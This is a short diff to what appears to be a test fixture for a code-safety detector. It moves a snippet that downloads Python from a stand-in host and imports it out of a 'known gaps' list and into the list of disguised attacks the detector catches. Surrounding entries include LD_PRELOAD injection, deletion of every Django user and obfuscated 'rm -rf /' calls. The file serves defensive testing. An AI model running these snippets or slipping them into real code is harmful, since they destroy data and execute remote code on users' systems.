@@ -56,6 +56,7 @@ DISGUISED = [
     "import os; os.environ.update({'LD_PRELOAD': '/tmp/x.so'})",
     "import os; os.environ.update(LD_PRELOAD='/tmp/x.so')",
     "from django.contrib.auth.models import User; User.objects.all().delete()",
+    "import sys, requests; open('/tmp/m.py','w').write(requests.get('http://e.example').text); sys.path.insert(0,'/tmp'); import m",  # noqa: E501
     # out of namespaces
     "import os, sys; sys._getframe().f_globals['o' + 's'].system('rm -rf /')",
     "import os, sys; sys.modules['__main__'].__dict__['o' + 's'].system('rm -rf /')",
@@ -270,7 +271,6 @@ DISGUISED = [
 
 #: Known gaps: what runs is decided by a library that is not in the tables, or by the import of a file.
 GAPS = [
-    "import sys, requests; open('/tmp/m.py','w').write(requests.get('http://e.example').text); sys.path.insert(0,'/tmp'); import m",  # noqa: E501
     "import os\n@os.system\ndef rm(): pass",
     "from plumbum import local; local['rm']['-rf','/']()",
 ]
